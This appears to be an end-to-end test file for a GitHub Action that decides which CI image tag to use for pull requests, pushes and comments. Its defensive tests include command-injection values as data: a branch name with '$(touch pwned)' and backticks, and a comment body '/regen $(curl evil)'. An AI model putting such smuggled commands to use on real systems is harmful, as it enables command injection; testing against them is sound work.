// resolve-image end to end: the bundled dist/index.js, run as the Actions runner runs it,
// against real git checkouts and the embedded GitHub.
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { runAction } from '../support/action.js'
import { issueCommentEvent, pullRequestEvent, pullRequestObject, pushEvent, workflowDispatchEvent } from '../support/events.js'
import { checkoutMerge, makePullRequestRepo, tempDir } from '../support/git.js'
import { useEmbeddedGitHub } from '../support/embedded-github.js'
import { serveCompare } from '../support/fake-compare.js'
import { debugLines } from '../support/workflow-commands.js'

const TOKEN = 'ghs_secretTokenValue1234567890'
const inputs = (extra: Record<string, string> = {}) => ({ command: 'resolve-image', 'github-token': TOKEN, ...extra })

const github = useEmbeddedGitHub()

function prEvent(repo: ReturnType<typeof makePullRequestRepo>, extra: { fork?: boolean; changedFiles?: number } = {}) {
  return pullRequestEvent({ number: repo.prNumber, baseRef: repo.baseRef, baseSha: repo.baseSha, headSha: repo.headSha, ...extra })
}

describe('resolve-image on pull requests, from git', () => {
  // One PR that gets its own image and one that keeps the stable tag; the tag of every base
  // branch is the tag table's (test/unit/tags.test.ts), what the build workflow watches the
  // resolve decision's (test/unit/resolve.test.ts).
  it.each([
    {
      name: 'Dockerfile.ci changed, base main',
      baseRef: 'main',
      files: { 'Dockerfile.ci': 'FROM node:24\n' },
      tag: 'pr-42',
      modified: 'true',
      push: 'ghcr.io/acme/app/ci:pr-42\nghcr.io/acme/app/ci:pr-42-sha-{head7}',
    },
    {
      name: 'only code changed, base release/1.x',
      baseRef: 'release/1.x',
      files: { 'src/app.ts': 'x\n' },
      // Not in branch-tags: the default branch's stable tag (the event's default branch is master).
      tag: 'latest',
      modified: 'false',
      push: '',
    },
  ] as { name: string; baseRef: string; files: Record<string, string>; tag: string; modified: string; push: string }[])(
    '$name → $tag, from git, asking the API only for the merge base',
    async ({ baseRef, files, tag, modified, push }) => {
      const repo = makePullRequestRepo({ baseRef, prFiles: files, baseCommitsAfterFork: 1 })
      serveCompare(github(), repo.origin)
      const run = await runAction({
        inputs: inputs(),
        eventName: 'pull_request',
        event: prEvent(repo),
        workspace: checkoutMerge(repo, 1),
        apiUrl: github().url,
        sha: repo.mergeSha,
      })
      expect(run.exitCode, run.stdout).toBe(0)
      expect(run.outputs).toMatchObject({
        image: `ghcr.io/acme/app/ci:${tag}`,
        tag,
        tags: push.replace('{head7}', repo.headSha.slice(0, 7)),
        modified,
        fork: 'false',
        'pr-number': '42',
        'head-sha': repo.headSha,
        'base-ref': baseRef,
        'changed-files': JSON.stringify(modified === 'true' ? Object.keys(files) : []),
      })
      expect(run.outputs.reason).toMatch(/^.*PR #42.*\.$/)
      expect(run.stdout).toContain(`ghcr.io/acme/app/ci:${tag}: ${run.outputs.reason}`)
      expect(run.summary).toContain(`ghcr.io/acme/app/ci:${tag}`)
      expect(run.summary).toContain('(listed by git)')
      // One call, for one commit and no files: the second page of one commit per page.
      expect(github().requests.map((r) => `${r.path}?${r.query.toString()}`)).toEqual([
        `/repos/acme/app/compare/${repo.baseSha}...${repo.headSha}?per_page=1&page=2`,
      ])
      // The runner consumes ::add-mask:: and never prints it; no other line may carry the token.
      expect(run.stdout.replace(`::add-mask::${TOKEN}`, '')).not.toContain(TOKEN)
    },
  )

  it('a full checkout (fetch-depth: 0) answers without calling the API', async () => {
    const repo = makePullRequestRepo({ prFiles: { 'Dockerfile.ci': 'FROM node:24\n' }, baseCommitsAfterFork: 3 })
    const run = await runAction({
      inputs: inputs(),
      eventName: 'pull_request',
      event: prEvent(repo),
      workspace: checkoutMerge(repo, 0),
      apiUrl: github().url,
      sha: repo.mergeSha,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["Dockerfile.ci"]' })
    expect(github().requests).toHaveLength(0)
  })

  it('finds the fork point with git alone when the compare call fails', async () => {
    const repo = makePullRequestRepo({ prFiles: { 'Dockerfile.ci': 'FROM node:24\n' }, baseCommitsAfterFork: 3 })
    github().fail('GET', '/repos/acme/app/compare/.+', 502)
    const run = await runAction({
      inputs: inputs(),
      eventName: 'pull_request',
      event: prEvent(repo),
      workspace: checkoutMerge(repo, 1),
      apiUrl: github().url,
      sha: repo.mergeSha,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["Dockerfile.ci"]' })
    expect(run.summary).toContain('(listed by git)')
    // Not retried: git has the answer too.
    expect(github().requests.map((r) => [r.path.replace(/[0-9a-f]{40}/g, 'SHA'), r.status])).toEqual([
      ['/repos/acme/app/compare/SHA...SHA', 502],
    ])
    // The debug log says why git alone found the fork point: the API's answer.
    expect(debugLines(run.stdout)).toContainEqual(expect.stringMatching(/merge base.*502/))
  })

  it('a fork PR that changes the image keeps the stable tag, says why, and pushes nothing', async () => {
    const repo = makePullRequestRepo({ baseRef: 'v2', prFiles: { 'Dockerfile.ci': 'FROM evil\n' } })
    const run = await runAction({
      inputs: inputs(),
      eventName: 'pull_request',
      event: prEvent(repo, { fork: true }),
      workspace: checkoutMerge(repo, 1),
      apiUrl: github().url,
    })
    expect(run.exitCode).toBe(0)
    expect(run.outputs).toMatchObject({ tag: 'v2', modified: 'true', fork: 'true', tags: '', 'changed-files': '["Dockerfile.ci"]' })
    expect(run.stdout).toMatch(/::warning title=Changed CI image not used::PR #42 changes the CI image but comes from a fork/)
  })

  it('derives watch from the build workflow in the checkout, with negation', async () => {
    const workflow = "on:\n  pull_request:\n    paths:\n      - 'ci/**'\n      - '!ci/docs/**'\njobs: {}\n"
    const docsOnly = makePullRequestRepo({
      baseFiles: { '.github/workflows/build-ci-image.yml': workflow },
      prFiles: { 'ci/docs/README.md': 'x\n', 'Dockerfile.ci': 'x\n' },
    })
    let run = await runAction({
      inputs: inputs(),
      eventName: 'pull_request',
      event: prEvent(docsOnly),
      workspace: checkoutMerge(docsOnly, 1),
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'latest', modified: 'false' })
    expect(run.summary).toContain('on.pull_request.paths of .github/workflows/build-ci-image.yml')

    const script = makePullRequestRepo({
      baseFiles: { '.github/workflows/build-ci-image.yml': workflow },
      prFiles: { 'ci/install.sh': 'x\n' },
    })
    run = await runAction({
      inputs: inputs(),
      eventName: 'pull_request',
      event: prEvent(script),
      workspace: checkoutMerge(script, 1),
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["ci/install.sh"]' })
  })

  it('the watch input wins over the workflow (ci.Dockerfile spelling)', async () => {
    const repo = makePullRequestRepo({ prFiles: { 'ci.Dockerfile': 'x\n' } })
    const run = await runAction({
      inputs: inputs({ watch: 'ci.Dockerfile\n' }),
      eventName: 'pull_request_target',
      event: prEvent(repo),
      workspace: checkoutMerge(repo, 1),
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["ci.Dockerfile"]' })
  })

  it('lists every file of a PR larger than the API cap from git', async () => {
    const many: Record<string, string> = {}
    for (let i = 0; i < 3500; i++) many[`gen/file-${String(i).padStart(4, '0')}.txt`] = `${i}\n`
    many['zz/Dockerfile.ci'] = 'x\n'
    const repo = makePullRequestRepo({ prFiles: many })
    const run = await runAction({
      inputs: inputs({ watch: '**/Dockerfile.ci' }),
      eventName: 'pull_request',
      event: prEvent(repo, { changedFiles: 3501 }),
      workspace: checkoutMerge(repo, 1),
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': '["zz/Dockerfile.ci"]' })
    expect(run.summary).toContain('3501 (listed by git)')
  })
})

describe('resolve-image from the REST API when git cannot answer', () => {
  function apiPullRequest(files: string[], changedFiles = files.length) {
    github().pulls.set(42, pullRequestObject({ number: 42, headSha: 'c'.repeat(40), baseRef: 'v2', changedFiles }))
    github().pullFiles.set(
      42,
      files.map((filename) => ({ filename, status: 'modified' })),
    )
    return pullRequestEvent({ number: 42, headSha: 'c'.repeat(40), baseRef: 'v2', changedFiles })
  }
  const codeFiles = (n: number) => Array.from({ length: n }, (_, i) => `src/f${i}.ts`)

  it('pages through the PR files (watched file on page 3)', async () => {
    const event = apiPullRequest([...codeFiles(250), 'Dockerfile.ci'])
    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.exitCode, run.stdout).toBe(0)
    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true', 'changed-files': '["Dockerfile.ci"]' })
    expect(
      github()
        .requests.filter((r) => !r.path.includes('/contents/'))
        .map((r) => `${r.path}?${r.query.toString()}`),
    ).toEqual([
      '/repos/acme/app/pulls/42/files?per_page=100',
      '/repos/acme/app/pulls/42/files?per_page=100&page=2',
      '/repos/acme/app/pulls/42/files?per_page=100&page=3',
    ])
    expect(github().requests[0]!.headers.authorization).toBe(`token ${TOKEN}`)
    expect(run.summary).toContain('251 (listed by api)')
  })

  it('counts the old path of a rename', async () => {
    github().pulls.set(42, pullRequestObject({ number: 42, headSha: 'c'.repeat(40) }))
    github().pullFiles.set(42, [{ filename: 'ci.Dockerfile', previous_filename: 'Dockerfile.ci', status: 'renamed' }])
    const run = await runAction({
      inputs: inputs(),
      eventName: 'pull_request',
      event: pullRequestEvent({ number: 42, headSha: 'c'.repeat(40) }),
      workspace: tempDir(),
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': '["Dockerfile.ci"]' })
  })

  it('refuses to decide on a truncated list (PR over 3,000 files, nothing watched in the listed part)', async () => {
    const event = apiPullRequest([...codeFiles(3400), 'Dockerfile.ci'])
    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain(
      '::error::PR #42 changes 3401 files, more than the 3000 the GitHub API lists, and none of those listed is watched, so the answer is unknown. Check out the repository (actions/checkout) so that git can list every file.',
    )
    expect(run.outputs.image).toBeUndefined()
    expect(github().requests.filter((r) => r.path.endsWith('/files'))).toHaveLength(30)
  })

  it('decides on a truncated list when a watched file is among those listed', async () => {
    const event = apiPullRequest(['Dockerfile.ci', ...codeFiles(3400)])
    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', modified: 'true' })
  })

  it('without a checkout, reads the base branch copy of the build workflow from the API when the PR leaves it alone', async () => {
    github().files.set('.github/workflows/build-ci-image.yml', "on:\n  pull_request:\n    paths: ['ci/**']\n")
    const event = apiPullRequest(['ci/install.sh', 'README.md'])
    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': '["ci/install.sh"]' })
    expect(run.summary).toContain('on.pull_request.paths of .github/workflows/build-ci-image.yml')
    const reads = github().requests.filter((r) => r.path.includes('/contents/'))
    // The merge commit has the base's copy of a file only the base changed.
    expect(reads.map((r) => r.query.get('ref'))).toEqual(['b'.repeat(40)])
  })

  it("without a checkout, reads pull_request from the PR's copy and pull_request_target from the base's", async () => {
    const workflow = '.github/workflows/build-ci-image.yml'
    // The base builds on pull_request_target; the PR switches it to pull_request: GitHub starts both.
    github().files.set(`${workflow}@${'b'.repeat(40)}`, "on:\n  pull_request_target:\n    paths: ['ci/**']\n")
    github().files.set(`${workflow}@${'c'.repeat(40)}`, "on:\n  pull_request:\n    paths: ['ci/**', '.github/**']\n")
    const event = apiPullRequest(['ci/install.sh', workflow])
    const run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.exitCode, run.stdout).toBe(0)
    expect(run.outputs).toMatchObject({ tag: 'pr-42', 'changed-files': JSON.stringify(['ci/install.sh', workflow]) })
    expect(run.summary).toContain(`on.pull_request.paths of ${workflow} and on.pull_request_target.paths of ${workflow} (base branch)`)
  })

  it('fails on a build workflow that does not exist, naming it and the workflows there; with watch, reads none', async () => {
    // A repository whose build workflow is named otherwise: build-ci-image.yml is not there.
    const workflows = '.github/workflows'
    github().files.delete(`${workflows}/build-ci-image.yml`)
    github().files.set(`${workflows}/build-image.yml`, 'on:\n  pull_request:\n    paths: [ci/**]\n')
    github().files.set(`${workflows}/test.yml`, 'on: push\n')
    const event = apiPullRequest(['ci/install.sh'])
    let run = await runAction({ inputs: inputs(), eventName: 'pull_request', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain(
      `::error::The build workflow ${workflows}/build-ci-image.yml does not exist on base branch v2 (bbbbbbb) nor in the PR, ` +
        'so nothing says which changes need a new image. The workflow files there: build-image.yml, test.yml. ' +
        'Set `build-workflow` to the file that builds the image, or `watch` to the paths whose change needs a new one.',
    )
    expect(run.outputs).toEqual({})
    github().requests.length = 0
    run = await runAction({
      inputs: inputs({ watch: 'ci/**' }),
      eventName: 'pull_request',
      event,
      workspace: tempDir(),
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'pr-42' })
    expect(github().requests.some((r) => r.path.includes('/contents/'))).toBe(false)
  })

  it('issue_comment from a commenter with write access reads the PR from the API', async () => {
    apiPullRequest(['README.md'])
    github().collaborators.set('someone', { permission: 'write', role_name: 'write' })
    const run = await runAction({
      inputs: inputs(),
      eventName: 'issue_comment',
      event: issueCommentEvent({ login: 'someone' }),
      workspace: tempDir(),
      apiUrl: github().url,
    })
    expect(run.exitCode, run.stdout).toBe(0)
    expect(run.outputs).toMatchObject({ tag: 'v2', modified: 'false', 'head-sha': 'c'.repeat(40), 'base-ref': 'v2' })
    // The commenter's permission, the PR, its files and the build workflow: each once, nothing else.
    expect(
      github()
        .requests.map((r) => r.path)
        .sort(),
    ).toEqual([
      '/repos/acme/app/collaborators/someone/permission',
      '/repos/acme/app/contents/.github%2Fworkflows%2Fbuild-ci-image.yml',
      '/repos/acme/app/pulls/42',
      '/repos/acme/app/pulls/42/files',
    ])
  })

  it('issue_comment from a commenter without write access fails and does nothing else', async () => {
    apiPullRequest(['Dockerfile.ci'])
    const event = issueCommentEvent({ association: 'MEMBER', login: 'mallory', body: '/regen $(curl evil)' })
    const run = await runAction({ inputs: inputs(), eventName: 'issue_comment', event, workspace: tempDir(), apiUrl: github().url })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('::error::@mallory (repository permission: none) may not run this: trusted-permission is write.')
    expect(github().requests.map((r) => r.path)).toEqual(['/repos/acme/app/collaborators/mallory/permission'])
    expect(run.outputs).toEqual({})
  })

  it('names the input when there is no token and no checkout', async () => {
    const event = pullRequestEvent({ number: 42, headSha: 'c'.repeat(40) })
    const run = await runAction({
      inputs: { command: 'resolve-image', 'github-token': '' },
      eventName: 'pull_request',
      event,
      workspace: tempDir(),
      apiUrl: github().url,
    })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('no token was given to ask the API')
  })
})

describe('resolve-image on pushes', () => {
  const sha = 'abcdef0123456789abcdef0123456789abcdef01'
  // The tag of every branch is the tag table's (test/unit/tags.test.ts): one push here.
  it.each([['feature/Ünïcode', 'feature-Unicode-sha-abcdef0', ['feature-Unicode-sha-abcdef0']]])(
    'push to %s → %s',
    async (branch, tag, push) => {
      const run = await runAction({
        inputs: inputs({ image: 'GHCR.IO/Acme/App/CI' }),
        eventName: 'push',
        event: pushEvent({ ref: `refs/heads/${branch}`, after: sha }),
        ref: `refs/heads/${branch}`,
        apiUrl: github().url,
      })
      expect(run.exitCode, run.stdout).toBe(0)
      expect(run.outputs).toMatchObject({
        tag,
        image: `ghcr.io/acme/app/ci:${tag}`,
        tags: push.map((t) => `ghcr.io/acme/app/ci:${t}`).join('\n'),
        modified: 'false',
        'head-sha': sha,
      })
    },
  )

  it('a branch name with shell metacharacters is a tag and never a command', async () => {
    const workspace = tempDir()
    const branch = 'x/$(touch pwned);`touch pwned2`|>pwned3'
    const run = await runAction({
      inputs: inputs(),
      eventName: 'push',
      event: pushEvent({ ref: `refs/heads/${branch}`, after: sha }),
      ref: `refs/heads/${branch}`,
      workspace,
      apiUrl: github().url,
    })
    expect(run.outputs.tag).toBe('x-touch-pwned-touch-pwned2-pwned3-sha-abcdef0')
    for (const file of ['pwned', 'pwned2', 'pwned3']) expect(existsSync(join(workspace, file))).toBe(false)
  })

  it('workflow_dispatch on v2', async () => {
    const run = await runAction({
      inputs: inputs(),
      eventName: 'workflow_dispatch',
      event: workflowDispatchEvent({ ref: 'refs/heads/v2' }),
      ref: 'refs/heads/v2',
      sha,
      apiUrl: github().url,
    })
    expect(run.outputs).toMatchObject({ tag: 'v2', tags: 'ghcr.io/acme/app/ci:v2\nghcr.io/acme/app/ci:v2-sha-abcdef0' })
  })
})

describe('resolve-image refuses bad input with a message naming it', () => {
  const event = pushEvent({ ref: 'refs/heads/main', after: 'a'.repeat(40) })
  // Every input's message is the inputs table's (test/unit/inputs.test.ts): one here, as the runner shows it.
  it.each([
    [{ command: 'build-image' }, 'Input `command` must be one of resolve-image, wait-for-build, comment-image; got "build-image".'],
  ])('%j', async (bad, message) => {
    const run = await runAction({ inputs: inputs(bad), eventName: 'push', event, ref: 'refs/heads/main', apiUrl: github().url })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain(`::error::${message}`)
  })

  it('an unsupported event', async () => {
    const run = await runAction({ inputs: inputs(), eventName: 'schedule', event: {}, apiUrl: github().url })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('::error::The event "schedule" is not supported')
  })
})
